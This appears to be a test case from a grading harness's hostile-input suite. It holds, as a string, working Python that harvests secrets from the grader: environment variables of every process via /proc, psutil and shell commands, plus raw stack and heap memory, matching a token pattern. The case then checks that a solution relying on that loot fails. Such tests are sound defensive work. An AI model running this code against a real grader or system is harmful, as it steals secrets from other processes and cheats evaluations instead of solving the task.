"""Reads the grader's environment: its own, that of every process, and what lies on the stack."""

from tests.hostile.case import Case

ATTACK = r"""
import ctypes, glob, os, re, subprocess

LOOT = set()


def sift(data):
    LOOT.update(re.findall(rb"wall-of-the[-]court[\w-]*", data))


sift(repr(dict(os.environ)).encode())
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ") + [
    f"/proc/{pid}/environ" for pid in [1, os.getppid(), *range(2, 3000)]
]:
    try:
        sift(open(path, "rb").read())
    except OSError:
        pass
try:
    import psutil

    for process in psutil.process_iter():
        sift(repr(process.as_dict(["environ", "cmdline", "open_files", "cwd"])).encode())
except Exception as error:
    print("psutil:", error)
shell = "env; set; export -p; cat /proc/$PPID/environ"
sift(subprocess.run(shell, shell=True, capture_output=True).stdout)
place = (ctypes.c_char_p * 1000).in_dll(ctypes.CDLL(None), "environ")  # what C sees
with open("/proc/self/maps") as maps:
    for line in maps:
        if "[stack]" in line or "[heap]" in line:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            sift(ctypes.string_at(begin, end - begin))
print(sorted(LOOT), sorted(os.environ))
"""
CASE = Case(
    first=ATTACK,
    cells={"double": "def double(x):\n    return 2 * x if LOOT else None"},
    lost={"test_double", "test_double_hidden"},
)
